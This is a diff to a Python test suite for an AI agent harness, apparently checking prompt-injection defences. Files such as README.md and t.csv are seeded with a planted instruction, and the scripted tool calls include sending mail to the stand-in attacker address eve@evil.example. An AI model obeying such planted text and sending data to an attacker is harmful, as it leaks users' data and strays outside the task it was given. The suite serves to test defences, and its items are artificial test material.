@@ -88,13 +88,13 @@ def run(machine, words: str, *calls, **more):
     return machine.oros("run", "-p", "steps", f"{words} {goal(*calls)}", **more)
 
 
-WRITE = ["write", {"path": "/work/count.txt", "text": "3\n"}]
+WRITE = ["write", {"path": "count.txt", "text": "3\n"}]
 INBOX = ["call", {"tool": "mail.inbox", "args": {}}]
 
 
 def test_a_poisoned_readme(oros, post) -> None:
     (oros.work / "README.md").write_text(f"# Tools\n{ORDER}\n")
-    read = ["read", {"path": "/work/README.md"}]
+    read = ["read", {"path": "README.md"}]
     found = run(
         oros, "Count the words of README.md into count.txt", read, send("eve@evil.example"), WRITE
     )
@@ -123,7 +123,7 @@ def test_a_poisoned_table(oros, post) -> None:
 def test_the_person_says_no_and_the_job_goes_on(oros, post) -> None:
     (oros.work / "t.csv").write_text(f"name,note\nann,{ORDER}\n")
     calls = (
-        ["read", {"path": "/work/t.csv"}],
+        ["read", {"path": "t.csv"}],
         send("eve@evil.example"),
         send("ann@b.example", "1"),
     )
